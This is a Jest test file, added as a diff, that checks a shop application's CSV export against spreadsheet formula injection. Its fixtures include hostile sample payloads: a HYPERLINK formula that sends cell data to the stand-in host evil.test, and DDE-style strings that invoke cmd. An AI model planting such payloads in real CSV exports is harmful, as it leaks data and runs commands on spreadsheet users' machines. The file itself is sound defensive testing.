@@ -1,0 +1,81 @@
+import { describe, expect, it } from "@jest/globals";
+import { createCore } from "../../create-core.js";
+import { memoryPorts, newUserWithToken } from "../../testing/index.js";
+import { CsvParser } from "./csv.js";
+import { meantBy, writeCell } from "./csv-cell.js";
+
+const odd = ["=", "+", "-", "@", "\t", "\r", "\n", "'", '"', ",", " ", "a", "1", "é", "🧸"];
+
+/** Every text of up to four of the odd characters. */
+function* texts(length = 4): Generator<string> {
+  yield "";
+  if (length === 0) return;
+  for (const rest of texts(length - 1)) for (const first of odd) yield first + rest;
+}
+
+/** In pieces that end anywhere, as a file comes. */
+function readBack(text: string): string[] {
+  const parser = new CsvParser();
+  const cells: string[] = [];
+  for (let at = 0; at < text.length; at += 7) {
+    for (const row of parser.take(text.slice(at, at + 7))) cells.push(...row.cells);
+  }
+  for (const row of parser.end()) cells.push(...row.cells);
+  return cells.map(meantBy);
+}
+
+const formulas = [
+  '=HYPERLINK("http://evil.test/?"&A1,"x")',
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  "-2+3|cmd",
+  "+1",
+  "'=1",
+  "''=1",
+  "'quoted' only",
+  "plain",
+];
+
+describe("a cell of a CSV file", () => {
+  it("comes back as it went out, whatever is in it", () => {
+    const all = [...new Set(texts())];
+    const row = (text: string) => `x,${writeCell(text)}\r\n`;
+    const read = readBack(all.map(row).join(""));
+    expect(read.filter((_, at) => at % 2 === 1)).toEqual(all);
+  });
+
+  it("is never one that a spreadsheet runs", () => {
+    const run = [...texts()].filter((text) => /^"?[=+\-@\t\r]/.test(writeCell(text)));
+    expect(run).toEqual([]);
+    expect(formulas.map(writeCell)).toEqual([
+      `"'=HYPERLINK(""http://evil.test/?""&A1,""x"")"`,
+      `'@SUM(1+1)*cmd|' /C calc'!A0`,
+      "'-2+3|cmd",
+      "'+1",
+      "''=1",
+      "'''=1",
+      "'quoted' only",
+      "plain",
+    ]);
+  });
+
+  it("is what a product of another shop is made of", async () => {
+    const core = createCore(memoryPorts());
+    const { as } = await newUserWithToken(core);
+    const shop = async () => ({ as, tenant: (await core.createTenant({ as }, { name: "S" })).id });
+    const [from, to] = [await shop(), await shop()];
+    for (const [at, text] of formulas.entries()) {
+      const product = { name: text, description: text, sku: `${text.slice(0, 60)}${at}`, price: 1 };
+      await core.createProduct(from, product);
+    }
+    const { text } = await core.exportProducts(from, { format: "csv" });
+    await core.importProducts(to, { format: "csv", text });
+    const said = async (call: typeof from) =>
+      (await core.listProducts(call, { sort: "id" })).data.map(({ name, description, sku }) => [
+        name,
+        description,
+        sku,
+      ]);
+    expect(await said(to)).toEqual(await said(from));
+    expect(await said(to)).toHaveLength(formulas.length);
+  });
+});
